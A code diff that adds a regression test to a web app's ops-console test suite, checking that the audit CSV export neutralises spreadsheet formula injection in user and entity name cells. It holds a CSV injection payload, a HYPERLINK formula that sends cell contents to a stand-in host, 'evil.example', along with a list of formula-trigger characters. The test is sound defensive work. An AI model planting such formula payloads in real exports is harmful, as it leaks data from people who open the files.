@@ -1,4 +1,6 @@
 """The ops console at /ops: Admins only (FAB login), outbox retry/cancel, background jobs, audit export."""
+import csv
+import io
 import os
 import re
 import threading
@@ -11,7 +13,7 @@ from rq.registry import FailedJobRegistry
 
 import app.jobs as app_jobs
 from app.extensions import db
-from app.models import ActivityEvent, Notification
+from app.models import ActivityEvent, Notification, Task
 from app.models.notifications import Channel, NotificationState
 from app.security import roles as R
 from tests import factories as f
@@ -401,3 +403,33 @@ def test_production_neither_serves_nor_writes_development_mail(app, tmp_path):
     with production.test_request_context(), pytest.raises(RuntimeError, match="MAIL_SERVER"):
         mailer.send("dev@client.example", "Your code", "12345678", "<p>12345678</p>")
     assert not os.path.exists(os.path.join(tmp_path, "mail"))
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+# 8 --------------------------------------------------------------------------------------------------
+def test_audit_csv_neutralises_formulas_in_user_and_entity_cells(app, client, portal_login, login, world):
+    """Contact named "=HYPERLINK(...)" was a formula in the audit CSV: User/Entity cells are now neutralised."""
+    with app.app_context():
+        entity = db.session.get(Task, world.task).entity
+        entity.name = "+SUM(1,2)"
+        db.session.commit()
+    portal_login(client, world.cora)
+    token = csrf_token(client, "/portal/settings/profile")
+    payload = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+    response = client.post("/portal/settings/profile", data={
+        "csrf_token": token, "first_name": payload, "last_name": "X", "phone": "", "language": "en"})
+    assert response.status_code == 302
+    assert client.get(f"/portal/tasks/{world.task}").status_code == 200  # "task.opened", actor = Cora
+    with app.app_context():
+        admin = f.staff(R.ADMIN).id
+    staff = app.test_client()
+    login(staff, admin)
+    rows = list(csv.reader(io.StringIO(staff.get("/ops/audit/export/csv/").get_data(as_text=True))))
+    opened = [row for row in rows if "task.opened" in row]
+    assert opened
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
+    assert any(cell.startswith("'=HYPERLINK(") for cell in opened[0])
+    assert any(cell == "'+SUM(1,2)" for cell in opened[0])
